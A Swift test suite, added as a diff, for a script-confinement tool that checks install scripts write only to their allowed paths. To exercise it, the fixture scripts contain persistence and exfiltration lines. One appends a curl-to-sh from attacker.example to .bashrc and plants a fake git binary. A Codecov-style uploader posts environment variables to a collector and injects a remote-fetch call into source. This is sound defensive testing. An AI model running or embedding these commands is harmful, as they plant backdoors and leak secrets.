@@ -1,0 +1,297 @@
+import Foundation
+import Testing
+@testable import ScriptPinKit
+
+/// Write confinement, as root and as `nobody`: a script pinned with
+/// `write` lines changes only those paths on the host; everything else it
+/// changes is discarded and listed; the audit lets everything through and
+/// lists the lines that allow it.
+@Suite("Write confinement: write lines, discarded writes and the write audit")
+struct WriteConfinementTests {
+    typealias User = ConfinementTests.User
+    typealias Stage = ConfinementTests.Stage
+    let server: HTTPSFixture
+
+    init() throws {
+        server = try HTTPSFixture()
+    }
+
+    /// Changes a backdoored installer makes to persist, and one in its own directory.
+    static let persistingScript = """
+        #!/bin/sh
+        echo 'curl -s https://attacker.example | sh' >> "$HOME/.bashrc"
+        mkdir -p "$HOME/.local/bin" && printf '#!/bin/sh\\n' > "$HOME/.local/bin/git" && chmod 755 "$HOME/.local/bin/git"
+        echo 'tool installed' > "$HOME/.tool/state"
+        echo 'injected' >> src/main.c
+        rm work/remove.txt
+        mv work/old-name.txt work/new-name.txt
+        chmod 600 work/mode.txt
+        echo done
+        """
+
+    /// The workspace and home a persisting script changes.
+    private func writeFiles(in stage: Stage) {
+        for (file, content) in [
+            ".bashrc": "export EDITOR=vi\n", ".tool/version": "1\n", "src/main.c": "int main(void) { return 0; }\n",
+            "work/remove.txt": "remove me\n", "work/old-name.txt": "renamed\n", "work/mode.txt": "mode\n",
+        ] {
+            stage.directory.write(file, content)
+        }
+    }
+
+    /// Every path under `root` with its kind, size, mode, owner and digest, `skipping` what a test expects to change.
+    static func snapshot(_ root: String, skipping: [String] = []) -> [String] {
+        var lines: [String] = []
+        let enumerator = FileManager.default.enumerator(atPath: root)
+        while let relative = enumerator?.nextObject() as? String {
+            if skipping.contains(where: { relative == $0 || relative.hasPrefix($0 + "/") }) { continue }
+            let path = root + "/" + relative
+            var status = stat()
+            guard lstat(path, &status) == 0 else { continue }
+            let digest = (status.st_mode & S_IFMT) == S_IFREG ? (try? sha256Hex(String(contentsOfFile: path, encoding: .utf8))) ?? "unreadable" : "-"
+            lines.append("\(relative) \(String(status.st_mode, radix: 8)) \(status.st_uid):\(status.st_gid) \(status.st_size) \(digest)")
+        }
+        return lines.sorted()
+    }
+
+    @Test("With `write ~/.tool`, the host is unchanged outside ~/.tool and every other change is named, on stderr and in the report", arguments: User.allCases)
+    func blockMode(user: User) throws {
+        let stage = try Stage(user: user, server: server)
+        writeFiles(in: stage)
+        stage.pin("persisting", Self.persistingScript, server: server, extra: "write ~/.tool\n")
+        if user == .nobody { stage.sandbox.handOver() }
+        let before = Self.snapshot(stage.directory.path, skipping: [".tool", "cache", "report.json"])
+        let result = stage.run("./scriptpin run persisting --report report.json")
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stdout == "done\n")
+        #expect(Self.snapshot(stage.directory.path, skipping: [".tool", "cache", "report.json"]) == before, "the host is byte for byte unchanged outside ~/.tool")
+        #expect(stage.directory.read(".tool/state") == "tool installed\n", "the write path is the host's")
+        #expect(stage.directory.read(".tool/version") == "1\n")
+        let discarded = """
+            scriptpin: discarded write to ./.bashrc (modified; not in the pin's write list)
+            scriptpin: discarded write to ./.local (created directory; not in the pin's write list)
+            scriptpin: discarded write to ./src/main.c (modified; not in the pin's write list)
+            scriptpin: discarded write to ./work/mode.txt (mode 0644 -> 0600; not in the pin's write list)
+            scriptpin: discarded write to ./work/new-name.txt (renamed from ./work/old-name.txt; not in the pin's write list)
+            scriptpin: discarded write to ./work/remove.txt (deleted; not in the pin's write list)
+            scriptpin: files: 0 changes made on the host, 6 discarded
+
+            """
+        #expect(result.stderr.hasSuffix(discarded), "\(result.stderr)")
+        #expect(!result.stderr.contains("writes are unrestricted"))
+        let report = try #require(stage.directory.read("report.json"))
+        let writes = try #require((try JSONSerialization.jsonObject(with: Data(report.utf8)) as? [String: Any])?["writes"] as? [String: Any])
+        let root = stage.directory.path
+        #expect(writes["mode"] as? String == "confined")
+        #expect((writes["kept"] as? [Any])?.isEmpty == true)
+        #expect((writes["notListed"] as? [String]) == [])
+        let discardedChanges = try #require(writes["discarded"] as? [[String: Any]])
+        #expect(discardedChanges.map { "\($0["change"]!) \($0["path"]!)\(($0["from"] as? String).map { " from " + $0 } ?? "")" } == [
+            "modified \(root)/.bashrc", "created \(root)/.local", "modified \(root)/src/main.c", "metadata \(root)/work/mode.txt",
+            "renamed \(root)/work/new-name.txt from \(root)/work/old-name.txt", "deleted \(root)/work/remove.txt",
+        ])
+        #expect(discardedChanges[3]["metadata"] as? [String] == ["mode 0644 -> 0600"])
+    }
+
+    @Test("--write-audit lets every change through to the host and suggests exactly the lines that cover them, with a summary of each modified text file", arguments: User.allCases)
+    func auditMode(user: User) throws {
+        let stage = try Stage(user: user, server: server)
+        writeFiles(in: stage)
+        // Outside the workspace, so that its lines are not folded into `.`.
+        let home = TemporaryDirectory("scriptpin-audit-home")
+        for (file, content) in [".bashrc": "export EDITOR=vi\n", ".tool/version": "1\n"] { home.write(file, content) }
+        if user == .nobody { _ = ProcessRunner.run("chown", ["-R", "65534:65534", home.path], in: "/") }
+        chmod(home.path, 0o755)
+        stage.pin("persisting", Self.persistingScript, server: server)
+        let result = stage.run("./scriptpin run persisting --write-audit", extraEnvironment: ["HOME": home.path])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(home.read(".bashrc") == "export EDITOR=vi\ncurl -s https://attacker.example | sh\n")
+        #expect(home.read(".local/bin/git") == "#!/bin/sh\n")
+        #expect(home.read(".tool/state") == "tool installed\n")
+        #expect(stage.directory.read("src/main.c") == "int main(void) { return 0; }\ninjected\n")
+        #expect(stage.directory.read("work/new-name.txt") == "renamed\n")
+        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("work/old-name.txt")))
+        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("work/remove.txt")))
+        var status = stat()
+        #expect(stat(stage.directory.url("work/mode.txt"), &status) == 0 && status.st_mode & 0o777 == 0o600)
+        #expect(stat(home.url(".local/bin/git"), &status) == 0 && status.st_mode & 0o777 == 0o755)
+        #expect(result.stderr.hasSuffix("""
+            scriptpin: files: 7 changes made on the host, 0 discarded
+            scriptpin: write audit: the script changed 7 paths; these suggested lines in its pin allow exactly them:
+            write ~/.bashrc
+            write ~/.local
+            write ~/.tool/state
+            write .
+            scriptpin: ~/.bashrc: +1 -0 lines: curl -s https://attacker.example | sh
+            scriptpin: ./src/main.c: +1 -0 lines: injected
+
+            """), "\(result.stderr)")
+    }
+
+    @Test("`write none` still gives a working $TMPDIR and /tmp, private to the run: nothing is listed and nothing stays", arguments: User.allCases)
+    func temporaryDirectory(user: User) throws {
+        let stage = try Stage(user: user, server: server)
+        let marker = "scriptpin-private-\(UUID().uuidString)"
+        let script = """
+            #!/bin/sh
+            echo scratch > "$TMPDIR/\(marker)" && cat "$TMPDIR/\(marker)"
+            echo shared > /tmp/\(marker) && cat /tmp/\(marker)
+            """
+        stage.pin("scratch", script, server: server, extra: "write none\n")
+        let result = stage.run("./scriptpin run scratch", extraEnvironment: ["TMPDIR": "/var/tmp"])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stdout == "scratch\nshared\n")
+        #expect(result.stderr.hasSuffix("scriptpin: files: 0 changes made on the host, 0 discarded\n"), "\(result.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: "/tmp/\(marker)"))
+        #expect(!FileManager.default.fileExists(atPath: "/var/tmp/\(marker)"))
+    }
+
+    @Test("The Codecov replay pinned with `write none` and its upload host: the collector gets nothing and the workspace is unchanged")
+    func codecovReplay() throws {
+        let stage = try Stage(user: .root, server: server)
+        stage.directory.write("src/app.py", "print('app')\n")
+        let uploader = """
+            #!/bin/bash
+            report=$(mktemp)
+            echo "coverage report" > "$report"
+            curl -sm 0.5 -d "$(env)" \(server.collectorURL("upload/v2")) > /dev/null || true
+            echo 'import os; os.system("curl -s attacker.example | sh")' >> src/app.py
+            curl -fsS --cacert "$SSL_CERT_FILE" --data-binary @"$report" \(server.url("upload/v4")) > /dev/null && echo uploaded
+            """
+        stage.pin("codecov", uploader, server: server, extra: "egress 127.0.0.1:\(server.trustedPort)\nwrite none\n")
+        let before = Self.snapshot(stage.directory.path, skipping: ["cache"])
+        let result = stage.run("./scriptpin run codecov", extraEnvironment: ["CODECOV_TOKEN": "codecov-token-4711"])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stdout == "uploaded\n")
+        #expect(server.collected == "coverage report\n\n", "only the report arrived, at the upload host")
+        #expect(!server.requests.contains { $0.hasPrefix("collector") })
+        #expect(Self.snapshot(stage.directory.path, skipping: ["cache"]) == before)
+        #expect(result.stderr.contains("scriptpin: discarded write to ./src/app.py (modified; not in the pin's write list)\n"), "\(result.stderr)")
+    }
+
+    @Test("As root, `write /usr/local` reaches /usr/local only: /etc, /usr/bin and the home's profile stay as they were")
+    func rootFileSystem() throws {
+        try #require(UnprivilegedSandbox.isRoot, "these paths are root's")
+        let stage = try Stage(user: .root, server: server)
+        stage.directory.write(".bashrc", "export EDITOR=vi\n")
+        let marker = "scriptpin-probe-\(UUID().uuidString.prefix(8))"
+        let probes = ["/usr/local/\(marker)", "/etc/\(marker)", "/usr/bin/\(marker)"]
+        defer { for probe in probes { try? FileManager.default.removeItem(atPath: probe) } }
+        let script = """
+            #!/bin/sh
+            for probe in \(probes.joined(separator: " ")); do echo installed > "$probe"; done
+            echo 'alias ls=evil' >> "$HOME/.bashrc"
+            echo done
+            """
+        stage.pin("installer", script, server: server, extra: "write /usr/local\n")
+        let result = stage.run("./scriptpin run installer")
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect((try? String(contentsOfFile: probes[0], encoding: .utf8)) == "installed\n", "the write path reached the host")
+        #expect(!FileManager.default.fileExists(atPath: probes[1]))
+        #expect(!FileManager.default.fileExists(atPath: probes[2]))
+        #expect(stage.directory.read(".bashrc") == "export EDITOR=vi\n")
+        #expect(result.stderr.contains("scriptpin: discarded write to /etc/\(marker) (created; not in the pin's write list)\n"), "\(result.stderr)")
+        #expect(result.stderr.contains("scriptpin: discarded write to /usr/bin/\(marker) (created; not in the pin's write list)\n"), "\(result.stderr)")
+        #expect(result.stderr.contains("scriptpin: discarded write to ./.bashrc (modified; not in the pin's write list)\n"), "\(result.stderr)")
+    }
+
+    @Test("A write path that does not exist yet is created from the layer once the script ends; a run without write lines says its writes are unrestricted", arguments: User.allCases)
+    func missingWritePath(user: User) throws {
+        let stage = try Stage(user: user, server: server)
+        stage.pin("creator", "#!/bin/sh\nmkdir -p \"$HOME/.rustup/toolchains\" && echo stable > \"$HOME/.rustup/toolchains/default\"\necho made\n", server: server)
+        let result = stage.run("./scriptpin run creator --write ~/.rustup")
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(stage.directory.read(".rustup/toolchains/default") == "stable\n")
+        #expect(result.stderr.hasSuffix("scriptpin: files: 1 change made on the host, 0 discarded\n"), "\(result.stderr)")
+
+        let unrestricted = stage.run("./scriptpin run creator")
+        #expect(unrestricted.status == 0)
+        #expect(unrestricted.stderr.contains("scriptpin: the script's writes are unrestricted; list the paths it may change as `write PATH` lines in its pin (`scriptpin run --write-audit` shows the ones it changes)\n"), "\(unrestricted.stderr)")
+    }
+
+    /// A program that runs a command under a seccomp filter refusing the
+    /// mount API's `fsopen`, as a kernel without it (or a filter that knows
+    /// only `mount`) does: no copy-on-write layer can be made.
+    private func compileNoLayerWrapper(into directory: TemporaryDirectory) throws -> String {
+        directory.write("no-fsopen.c", """
+            #include <errno.h>
+            #include <linux/filter.h>
+            #include <linux/seccomp.h>
+            #include <stddef.h>
+            #include <stdio.h>
+            #include <sys/prctl.h>
+            #include <sys/syscall.h>
+            #include <unistd.h>
+
+            int main(int argc, char **argv) {
+                struct sock_filter rules[] = {
+                    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_fsopen, 0, 1),
+                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
+                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+                };
+                struct sock_fprog program = { sizeof rules / sizeof rules[0], rules };
+                if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) != 0) {
+                    perror("seccomp");
+                    return 99;
+                }
+                execv(argv[1], argv + 1);
+                perror("execv");
+                return 98;
+            }
+            """)
+        let built = ProcessRunner.run("cc", ["-o", directory.url("no-fsopen"), directory.url("no-fsopen.c")], in: directory.path)
+        try #require(built.status == 0, "\(built.stderr)")
+        return directory.url("no-fsopen")
+    }
+
+    @Test("Where the kernel gives no copy-on-write layer, the directories are read-only instead: writes fail with EROFS and run says they cannot be listed", arguments: User.allCases)
+    func noLayerFallback(user: User) throws {
+        let stage = try Stage(user: user, server: server)
+        _ = try compileNoLayerWrapper(into: stage.directory)
+        stage.directory.write("src/main.c", "int main(void) { return 0; }\n")
+        let script = "#!/bin/sh\nif echo injected >> src/main.c; then echo appended; else echo refused; fi\n"
+        stage.pin("fallback", script, server: server, extra: "write none\n")
+        let result = stage.run("./no-fsopen ./scriptpin run fallback 2>&1")
+        #expect(result.status == 0, "\(result.stdout)")
+        #expect(result.stdout.contains("Read-only file system"), "\(result.stdout)")
+        #expect(result.stdout.contains("refused\n"))
+        #expect(stage.directory.read("src/main.c") == "int main(void) { return 0; }\n")
+        #expect(result.stdout.contains("scriptpin: the kernel gave no copy-on-write layer for /"), "\(result.stdout)")
+        #expect(result.stdout.contains(": they were read-only, so writes to them were refused and cannot be listed\n"), "\(result.stdout)")
+        #expect(!result.stdout.contains("discarded write"))
+    }
+
+    @Test("Write lines: parsed and rendered; `none` alone; the kernel's trees, the runner's command files and the manifest refused by the parser; scriptpin's own directory refused at run time")
+    func writeLines() throws {
+        let digest = String(repeating: "a", count: 64)
+        func parse(_ lines: String) -> Result<ParsedPin, PinFailure> {
+            PinDocument.parse(Array("url https://example.com/i.sh\nsha256 \(digest)\n\(lines)".utf8), name: "i", path: "known-hashes/i.pin")
+        }
+        guard case .success(let parsed) = parse("write ~/.rustup\nwrite .\nwrite /opt/tool\n") else { Issue.record("valid"); return }
+        #expect(parsed.pin.write == [.path("~/.rustup"), .path("."), .path("/opt/tool")])
+        #expect(PinDocument(pin: parsed.pin).render().hasSuffix("write ~/.rustup\nwrite .\nwrite /opt/tool\n"))
+        for (lines, message) in [
+            ("write relative/path\n", "'relative/path' is not a write path; write /PATH, ~/PATH, . (the working directory) or none"),
+            ("write /opt/../etc\n", "'/opt/../etc' is not a write path; write /PATH, ~/PATH, . (the working directory) or none"),
+            ("write none\nwrite /opt\n", "`write none` and write paths contradict each other; keep one or the other"),
+            ("write /proc/sys/kernel\n", "write /proc/sys/kernel: /proc is the kernel's, and a script never gets to write it; remove the line"),
+            ("write /home/runner/work/_temp/_runner_file_commands\n", "write /home/runner/work/_temp/_runner_file_commands: the runner reads the files there to change later steps, which is what write lines protect; remove the line"),
+            ("write /opt\nconfine off\n", "`confine off` with write lines: write lines are enforced by confinement; remove one or the other"),
+        ] {
+            guard case .failure(let failure) = parse(lines) else { Issue.record("\(lines) is refused"); continue }
+            #expect(failure.problems.map(\.message).contains(message), "\(failure.problems.map(\.message))")
+        }
+
+        let stage = try Stage(user: .root, server: server)
+        stage.pin("selfish", "#!/bin/sh\necho ran\n", server: server, extra: "write \(stage.directory.url("known-hashes"))\n")
+        let manifest = stage.run("./scriptpin verify")
+        #expect(manifest.status == 2, "\(manifest.stderr)")
+        #expect(manifest.stderr.contains("write \(stage.directory.url("known-hashes")): that is the manifest's own directory, which a script never gets to change (it would approve its own next version); remove the line"), "\(manifest.stderr)")
+        stage.pin("selfish", "#!/bin/sh\necho ran\n", server: server)
+        let own = stage.run("./scriptpin run selfish --write \(stage.directory.url("bin"))")
+        #expect(own.status == 125)
+        #expect(own.stdout == "")
+        #expect(own.stderr.contains("write \(stage.directory.url("bin")): it is inside \(stage.directory.url("bin")), which stays read-only for every script"), "\(own.stderr)")
+    }
+}
